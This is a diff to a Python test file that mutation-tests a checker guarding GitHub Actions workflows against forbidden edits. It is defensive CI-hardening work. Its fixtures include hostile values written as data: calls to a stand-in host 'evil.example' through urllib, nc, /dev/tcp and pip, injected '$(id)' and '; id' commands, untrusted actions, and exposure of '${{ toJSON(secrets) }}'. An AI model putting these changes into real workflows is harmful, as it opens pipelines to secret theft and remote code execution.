@@ -1,5 +1,5 @@
 # ruff: noqa: E501  # one mutant a line
-"""Every forbidden kind of change to a workflow is seen by the policy."""
+"""Every forbidden kind of change to a workflow is seen: by the policy, or where it is no line to cross, by the table."""
 
 from __future__ import annotations
 
@@ -7,8 +7,9 @@ from typing import NamedTuple
 
 import pytest
 
-from tests.workflows.policy import find_faults
+from tests.workflows.policy import find_changes, find_faults
 from tests.workflows.test_policy import WORKFLOWS
+from tests.workflows.workflow_file import read_table
 
 
 class Mutant(NamedTuple):
@@ -23,6 +24,8 @@ class Mutant(NamedTuple):
 CHECKOUT = "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
 HASHED = "--require-hashes --no-deps -r requirements-site.txt"
 PYTHON = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py effsota validate'
+EVIL = "evil/x@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
+ATTEST = "uses: actions/attest@1e69f48acb82d1966a394da916b4c1698aa569d6 # v4.2.2"
 SEAL = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py seal'
 MUTANTS = (
     Mutant("pull_request_target", "validate", "  pull_request:", "  pull_request_target:"),
@@ -78,6 +81,159 @@ MUTANTS = (
     Mutant("a release by another hand", "release", "gh release create", "gh api"),
     Mutant("a release before its build", "release", "    needs: [build, attest]\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n", "    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n"),
     Mutant("a job that no table knows", "links", "jobs:\n", "jobs:\n  more:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 1\n    permissions: {contents: read}\n    steps: []\n"),
+    # A stranger's action, in whatever way YAML lets it be written.
+    Mutant("an action under a quoted key", "comment", CHECKOUT, f'"uses": {EVIL}'),
+    Mutant("an action under a key with a blank", "comment", CHECKOUT, f"uses : {EVIL}"),
+    Mutant("an action in braces", "comment", "steps:\n", f"steps:\n      - {{name: X, uses: {EVIL.partition(' ')[0]}}}\n"),
+    Mutant("an action under a question mark", "comment", "steps:\n", f"steps:\n      - name: X\n        ? uses\n        : {EVIL}\n"),
+    Mutant("an action in quotes", "comment", CHECKOUT, f'uses: "{EVIL.partition(" ")[0]}" # v7.0.1'),
+    Mutant("an action in a block of text", "comment", CHECKOUT, f"uses: >-\n          {EVIL.partition(' ')[0]}"),
+    Mutant("an action of an image", "publish", CHECKOUT, "uses: docker://evil/x@sha256:0 # v7.0.1"),
+    Mutant("an action of this repository", "publish", CHECKOUT, "uses: ./.github/actions/x # v7.0.1"),
+    Mutant("an action of the checkout's parent", "publish", CHECKOUT, "uses: ../x"),
+    Mutant("an action in a folder of a known one", "publish", CHECKOUT, CHECKOUT.replace("checkout@", "checkout/evil@")),
+    Mutant("an action in other letters", "publish", CHECKOUT, CHECKOUT.replace("actions/checkout", "Actions/Checkout")),
+    Mutant("an action with its version elsewhere", "publish", CHECKOUT, CHECKOUT.replace(" # v7.0.1", "")),
+    Mutant("an action added to the signing job", "publish", "      - name: Take the sums\n", f"      - name: X\n        {CHECKOUT}\n        with: {{persist-credentials: false}}\n      - name: Take the sums\n"),
+    Mutant("signing where it builds", "publish", "      - name: Seal\n", f"      - name: X\n        {ATTEST}\n      - name: Seal\n"),
+    # One file, two readings.
+    Mutant("an anchor", "links", "permissions: {}", "permissions: &none {}"),
+    Mutant("an alias", "links", "concurrency:\n  group: links", "concurrency:\n  group: &l links\n  x: *l"),
+    Mutant("a merge", "links", "permissions: {}", "permissions: {<<: {contents: write}}"),
+    Mutant("a key twice", "links", "permissions: {}", "permissions: {}\npermissions: write-all"),
+    Mutant("a key of a step twice", "comment", "        run: python3 -I .github/scripts/run.py find-pull", "        run: python3 -I .github/scripts/run.py find-pull\n        run: id"),
+    Mutant("a quoted key twice", "links", "permissions: {}", 'permissions: {}\n"permissions": write-all'),
+    Mutant("a tag", "links", "permissions: {}", "permissions: !!map {}"),
+    Mutant("a directive", "links", "name: Links", "%YAML 1.1\n---\nname: Links"),
+    Mutant("two documents", "links", "name: Links", "name: Other\n---\nname: Links"),
+    Mutant("a key that is a list", "links", "permissions: {}", "permissions: {}\n? [a]\n: b"),
+    Mutant("no YAML", "links", "permissions: {}", "permissions: {"),
+    Mutant("no mapping", "links", WORKFLOWS["links"], "- a\n"),
+    # Untrusted files over the judge, by any verb.
+    *(
+        Mutant(f"the judge written by {verb!r}", "comment", 'mkdir "$RUNNER_TEMP/report"', verb)
+        for verb in (
+            'git restore --source="$HEAD_SHA" -- src .github/scripts', 'git reset --hard "$HEAD_SHA"', 'git switch --detach "$HEAD_SHA"',
+            'git archive "$HEAD_SHA" | tar x', 'git read-tree -um "$HEAD_SHA"', 'git show "$HEAD_SHA:src/x.py" > src/x.py',
+            'git worktree add w "$HEAD_SHA"', 'git -C . checkout "$HEAD_SHA"', "git clone x y", 'git cherry-pick "$HEAD_SHA"',
+            'git rebase "$HEAD_SHA"', "git apply x", "git am x", "git stash apply x", "git checkout-index -a", 'git merge "$HEAD_SHA"',
+            "git pull x y", "git submodule update --init", "git config core.hooksPath x", 'git fetch "$X" "$HEAD_SHA:main"',
+            'git cat-file -p "$HEAD_SHA:src/x.py" | tee src/x.py', '"git" restore x', 'g"i"t restore x', "/usr/bin/git restore x",
+            "command git restore x", "env git restore x", "xargs git restore", "GIT_DIR=x git restore y", 'bash -c "git restore x"',
+            'eval "$X"', "source x", ". x", "cp -r x src", "rsync x src", "ln -s x src", "tar xf x", "unzip x", "tee src/x.py", "echo x > src/x.py",
+            "sed -i s/a/b/ src/x.py", 'python3 -I -c "print()"', "node -e x", "perl -e x", "make x", "sh x", "./x", "$X", '"$X"', "`id`", "$(id)",
+            'mkdir "$RUNNER_TEMP/$(id)"', 'mkdir "$RUNNER_TEMP/`id`"', 'mkdir "$RUNNER_TEMP/report"; id', 'mkdir "$RUNNER_TEMP/report" && id', 'mkdir "$RUNNER_TEMP/report" | id',
+            'mkdir "$RUNNER_TEMP/report" \\\n  && id', 'mkdir "$RUNNER_TEMP/report" & id', "cat <<EOF | sh\nid\nEOF", "status=$(id)", "PATH=x", "trap id EXIT", "alias git=x",
+            "exec id", "set +e", "shopt -s extglob", "exit 0", ": > src/x.py", "umask 0", "# x\r\nid",
+        )
+    ),
+    Mutant("the head judged against itself", "comment", 'diff HEAD "$HEAD_SHA"', 'diff "$HEAD_SHA" "$HEAD_SHA"'),
+    Mutant("vouched by a word", "comment", 'diff HEAD "$HEAD_SHA"', 'diff HEAD "$HEAD_SHA" --vouched'),
+    Mutant("another root", "comment", 'diff HEAD "$HEAD_SHA"', 'diff HEAD "$HEAD_SHA" --root x'),
+    Mutant("a verdict that is always green", "validate", 'exit "$status"', "exit 0"),
+    Mutant("a verdict that is never said", "validate", '          exit "$status"\n', ""),
+    Mutant("a failure that is passed over", "publish", "validate --format github", "validate --format github || true"),
+    Mutant("a judge that is not asked", "validate", 'judge > "$RUNNER_TEMP/told.md" || status=$?', "status=0"),
+    # The network.
+    *(
+        Mutant(f"the network by {call!r}", "validate", "          status=0\n", f"          {call}\n          status=0\n")
+        for call in (
+            'python3 -I -c "import urllib.request as u; u.urlopen(\'https://evil.example\')"', "docker run evil", "nc evil.example 1", "ssh evil.example",
+            "exec 3<>/dev/tcp/evil.example/80", "gh api x", "npm install x", "npx x", "uvx x", "pipx run x", "apt-get install x", "sudo id", "go run x@latest",
+            '"$RUNNER_TEMP/venv/bin/python" -I -m pip --quiet install x', '"$RUNNER_TEMP/venv/bin/python" -I -m pip download x',
+            '"$RUNNER_TEMP/venv/bin/python" -I -m pip install --quiet --require-hashes --no-deps -r requirements.txt -r https://evil.example',
+            '"$RUNNER_TEMP/venv/bin/python" -I -m pip install --quiet --require-hashes --no-deps -r requirements.txt --index-url https://evil.example',
+            '"$RUNNER_TEMP/venv/bin/python" -I -m http.server', '"$RUNNER_TEMP/venv/bin/python" -I .github/scripts/run.py links submissions',
+            'python3 -I .github/scripts/run.py published "$SITE_URL" "$GITHUB_SHA"', "openssl s_client evil.example:443", "dig evil.example", "powershell x",
+        )
+    ),
+    # What reaches a script.
+    Mutant("vouched by a word of the workflow", "comment", "EFFSOTA_VOUCHED: ${{ steps.find.outputs.vouched }}", 'EFFSOTA_VOUCHED: "true"'),
+    Mutant("vouched by any label ever", "validate", "github.event.action == 'labeled' && github.event.label.name == 'vouched'", "contains(github.event.pull_request.labels.*.name, 'vouched')"),
+    Mutant("the head as the base", "validate", "BASE_SHA: ${{ github.event.pull_request.base.sha }}", "BASE_SHA: ${{ github.event.pull_request.head.sha }}"),
+    Mutant("the number of the event", "comment", "${{ needs.judge.outputs.number }}\n          HEAD", "${{ github.event.workflow_run.pull_requests[0].number }}\n          HEAD"),
+    Mutant("no head commit for the comment", "comment", "          HEAD_SHA: ${{ github.event.workflow_run.head_sha }}\n        run: python3", "        run: python3"),
+    Mutant("all secrets", "publish", "SITE_URL: ${{ needs.deploy.outputs.url }}", "SITE_URL: ${{ toJSON(secrets) }}"),
+    Mutant("a secret in brackets", "publish", "SITE_URL: ${{ needs.deploy.outputs.url }}", "SITE_URL: ${{ secrets['KEY'] }}"),
+    Mutant("the actor in brackets", "issue", "contains(github.event.issue.labels.*.name, 'submission')", "github['actor'] == 'ada'"),
+    Mutant("a title in the environment", "validate", "          EFFSOTA_VOUCHED:", "          TITLE: ${{ github.event.pull_request.title }}\n          EFFSOTA_VOUCHED:"),
+    Mutant("a variable that Python reads", "validate", "          EFFSOTA_VOUCHED:", "          PYTHONSTARTUP: x\n          EFFSOTA_VOUCHED:"),
+    Mutant("a variable that bash reads", "validate", "          EFFSOTA_VOUCHED:", "          BASH_ENV: x\n          EFFSOTA_VOUCHED:"),
+    Mutant("the token for the judge", "comment", "          HEAD_SHA: ${{", "          GH_TOKEN: ${{ github.token }}\n          HEAD_SHA: ${{"),
+    Mutant("the token of an action", "publish", "          persist-credentials: false", "          persist-credentials: false\n          token: ${{ github.token }}"),
+    Mutant("variables of a job", "validate", "    timeout-minutes: 10", "    timeout-minutes: 10\n    env: {PYTHONPATH: .}"),
+    Mutant("variables of an action", "publish", "        with:\n          path: ${{ runner.temp }}/site\n", "        env: {X: y}\n        with:\n          path: ${{ runner.temp }}/site\n"),
+    # When it runs, after what, how long, as whom.
+    Mutant("a job that never runs", "validate", "    name: Validate\n", "    name: Validate\n    if: false\n"),
+    Mutant("a step that never runs", "validate", "      - name: Judge\n", "      - name: Judge\n        if: ${{ false }}\n"),
+    Mutant("a step that runs after all", "comment", "        if: needs.judge.result == 'success'\n", "        if: always()\n"),
+    Mutant("a comment without a condition", "comment", "    if: ${{ !cancelled() && needs.judge.outputs.number }}\n", ""),
+    Mutant("a comment on a push", "comment", "github.event.workflow_run.event == 'pull_request'", "github.event.workflow_run.event != ''"),
+    Mutant("some kinds of event", "validate", "types: [opened, synchronize, reopened, labeled, unlabeled]", "types: [opened]"),
+    Mutant("some paths", "validate", "    branches: [main]\n", "    branches: [main]\n    paths: [submissions/**]\n"),
+    Mutant("some paths not", "validate", "    branches: [main]\n", "    branches: [main]\n    paths-ignore: [src/**]\n"),
+    Mutant("every branch published", "publish", "  push:\n    branches: [main]\n", "  push:\n"),
+    Mutant("two branches published", "publish", "branches: [main]", "branches: [main, topic]"),
+    Mutant("a pattern of branches published", "publish", "branches: [main]", "branches: ['**']"),
+    Mutant("another workflow followed", "comment", "workflows: [Validate]", "workflows: [Validate, Test]"),
+    Mutant("a workflow to be called", "links", "on:\n", "on:\n  workflow_call:\n"),
+    Mutant("a call from outside", "publish", "on:\n", "on:\n  repository_dispatch:\n"),
+    Mutant("inputs by hand", "publish", "  workflow_dispatch:\n", "  workflow_dispatch:\n    inputs: {ref: {type: string}}\n"),
+    Mutant("an answer before the judge", "issue", "    needs: judge\n", ""),
+    Mutant("a deployment without its attestation", "publish", "needs: [build, attest]", "needs: build"),
+    Mutant("a deployment without its environment", "publish", "    environment:\n      name: github-pages\n      url: ${{ steps.deploy.outputs.page_url }}\n", ""),
+    Mutant("another environment", "publish", "name: github-pages", "name: other"),
+    Mutant("an environment for the judge", "validate", "    timeout-minutes: 10", "    timeout-minutes: 10\n    environment: github-pages"),
+    Mutant("six hours", "validate", "timeout-minutes: 10", "timeout-minutes: 360"),
+    Mutant("a timeout by an expression", "validate", "timeout-minutes: 10", "timeout-minutes: ${{ github.event.pull_request.number }}"),
+    Mutant("a runner by an expression", "test", "runs-on: ubuntu-24.04", "runs-on: ${{ matrix.python }}"),
+    Mutant("a runner of a group", "publish", "runs-on: ubuntu-24.04", "runs-on: {group: x}"),
+    Mutant("the issue's rights for everything", "issue", "issues: write #", "issues: write\n      actions: write #"),
+    Mutant("write for the job that judges", "comment", "pull-requests: read #", "pull-requests: write #"),
+    Mutant("all rights of a job", "links", "    permissions:\n      contents: read # to check out\n", "    permissions: write-all\n"),
+    Mutant("no rights said", "links", "    permissions:\n      contents: read # to check out\n", ""),
+    # What a job is made of.
+    Mutant("services", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    services: {x: {image: evil}}"),
+    Mutant("an image to run in", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    container: {image: evil}"),
+    Mutant("another shell for all", "publish", "jobs:\n", "defaults: {run: {shell: 'evil {0}'}}\njobs:\n"),
+    Mutant("another shell for a job", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    defaults: {run: {shell: 'evil {0}'}}"),
+    Mutant("another folder", "publish", "      - name: Seal\n", "      - name: Seal\n        working-directory: /tmp\n"),
+    Mutant("a matrix", "validate", "    timeout-minutes: 10", "    timeout-minutes: 10\n    strategy: {matrix: {x: [1, 2]}}"),
+    Mutant("a matrix from the event", "test", '["3.11", "3.12", "3.13", "3.14"]', "${{ fromJSON(github.event.pull_request.body) }}"),
+    Mutant("a matrix with more", "test", "      matrix:\n", "      matrix:\n        include: [{python: x}]\n"),
+    Mutant("a job that is another workflow", "links", "jobs:\n", "jobs:\n  links: {uses: ./.github/workflows/x.yml, secrets: inherit}\n  other:\n"),
+    Mutant("a step that is both", "publish", "      - name: Seal\n", f"      - name: Seal\n        {CHECKOUT}\n"),
+    Mutant("outputs of a run", "validate", "    timeout-minutes: 10", "    timeout-minutes: 10\n    outputs: {x: y}"),
+    Mutant("an output from elsewhere", "comment", "number: ${{ steps.find.outputs.number }}", "number: ${{ github.event.workflow_run.id }}"),
+    Mutant("an id that is not asked for", "comment", "      - name: Judge\n", "      - name: Judge\n        id: find\n"),
+    Mutant("another name", "validate", "name: Validate\n\non", "name: Check\n\non"),
+    Mutant("the name of another", "links", "name: Links\n\non", "name: Validate\n\non"),
+    # Who cancels whom.
+    Mutant("a group that others fall into", "comment", ":${{ github.event.workflow_run.workflow_id }}", ""),
+    Mutant("a group of names alone", "comment", "group: comment:", "group: comment-"),
+    Mutant("a group for all", "validate", "group: validate-${{ github.event.pull_request.number }}", "group: validate"),
+    Mutant("a publication that is cut off", "publish", "cancel-in-progress: false", "cancel-in-progress: true"),
+    Mutant("a group by its name alone", "links", "concurrency:\n  group: links\n  cancel-in-progress: true\n", "concurrency: links\n"),
+    # Inputs of actions.
+    Mutant("submodules", "publish", "          persist-credentials: false", "          persist-credentials: false\n          submodules: recursive"),
+    Mutant("large files", "publish", "          persist-credentials: false", "          persist-credentials: false\n          lfs: true"),
+    Mutant("another folder for the checkout", "publish", "          persist-credentials: false", "          persist-credentials: false\n          path: x"),
+    Mutant("another branch checked out", "publish", "          persist-credentials: false", "          persist-credentials: false\n          ref: ${{ github.head_ref }}"),
+    Mutant("credentials kept by another word", "publish", "persist-credentials: false", "persist-credentials: 'no'"),
+    Mutant("a Python of the caller's", "publish", 'python-version: "3.13"', "python-version-file: .python-version"),
+    Mutant("an artifact by a pattern", "comment", "          name: report\n          path: ${{ runner.temp }}/report\n", "          pattern: '*'\n          path: ${{ runner.temp }}/report\n"),
+    Mutant("an artifact out of the folder", "comment", "path: ${{ runner.temp }}/report\n", "path: ${{ runner.temp }}/../work\n"),
+    Mutant("an artifact kept for long", "publish", "retention-days: 5", "retention-days: 90"),
+    Mutant("the signature of something else", "publish", "/sums/SHA256SUMS\n", "/sums/../x\n"),
+    Mutant("another index to publish to", "release", "          packages-dir:", "          repository-url: https://evil.example\n          packages-dir:"),
+    # What must be there.
+    Mutant("a build that is not compared", "publish", '          diff -r "$RUNNER_TEMP/site" "$RUNNER_TEMP/again"\n', ""),
+    Mutant("a site without its sums", "publish", "      - name: Seal\n        run: |\n" + f'          {SEAL} "$RUNNER_TEMP/site" "$GITHUB_SHA"\n', ""),
+    Mutant("tests that are only listed", "test", "-m pytest", "-m pytest --collect-only"),
+    Mutant("no types", "test", "          .venv/bin/python -I -m mypy\n", ""),
+    Mutant("an audit that believes silence", "audit", "--strict ", ""),
+    Mutant("an audit that leaves one out", "audit", "--strict", "--ignore-vuln X --strict"),
+    Mutant("a wheel that nobody tries", "release", '          test "$("$RUNNER_TEMP/venv/bin/effsota" --version)" = "effsota, version ${GITHUB_REF_NAME#v}"\n', ""),
 )  # fmt: skip
 
 
@@ -87,6 +243,51 @@ def test_a_forbidden_change_is_seen(mutant: Mutant) -> None:
     changed = WORKFLOWS[mutant.name].replace(mutant.old, mutant.new, 1)
     assert changed != WORKFLOWS[mutant.name]
     assert find_faults(WORKFLOWS | {mutant.name: changed}) != []
+
+
+# What is no line to cross, and still a change that a reviewer sees: the table holds every value.
+SEEN = (
+    Mutant("another hour", "publish", "17 4 * * *", "18 4 * * *"),
+    Mutant("another Python", "publish", '"3.13"', '"3.12"'),
+    Mutant("another lock", "validate", "-r requirements.txt", "-r requirements-dev.txt"),
+    Mutant("a shorter history", "validate", "          fetch-depth: 0\n", ""),
+    Mutant("other words", "validate", "It is not your fault, and", "It is your fault, and"),
+    Mutant("another step's name", "publish", "- name: Seal", "- name: Sealed"),
+    Mutant("another job's name", "validate", "    name: Validate\n", "    name: Check\n"),
+    Mutant("another order", "publish", 'effsota build --today "$today" -o "$RUNNER_TEMP/$copy"\n          done\n          diff -r "$RUNNER_TEMP/site" "$RUNNER_TEMP/again"', 'effsota build --today "$today" -o "$RUNNER_TEMP/$copy"\n          diff -r "$RUNNER_TEMP/site" "$RUNNER_TEMP/again"\n          done'),
+    Mutant("an upload that may be empty", "comment", "if-no-files-found: error", "if-no-files-found: ignore"),
+    Mutant("a shorter timeout", "publish", "timeout-minutes: 15", "timeout-minutes: 1"),
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("mutant", [*MUTANTS, *SEEN], ids=lambda mutant: mutant.why)
+def test_any_change_is_seen_beside_the_table(mutant: Mutant) -> None:
+    """Every value stands there; what follows a value on its line is the policy's to read."""
+    changed = WORKFLOWS | {mutant.name: WORKFLOWS[mutant.name].replace(mutant.old, mutant.new, 1)}
+    assert changed != WORKFLOWS
+    assert find_changes(changed, read_table()) != [] or "version" in mutant.why
+
+
+def test_there_are_more_than_a_hundred_kinds() -> None:
+    """Each with a name of its own."""
+    assert len({mutant.why for mutant in MUTANTS}) == len(MUTANTS) > 200
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "name: Links",
+        "# a comment\nname: Links",
+        "name:   Links",
+        "name: 'Links'",
+        '"name": "Links"',
+        "? name\n: Links",
+    ],
+)
+def test_what_says_the_same_is_the_same(text: str) -> None:
+    """Blanks, quotes and comments are no change."""
+    same = WORKFLOWS | {"links": WORKFLOWS["links"].replace("name: Links", text, 1)}
+    assert (find_faults(same), find_changes(same, read_table())) == ([], [])
 
 
 def test_a_new_workflow_is_seen() -> None:
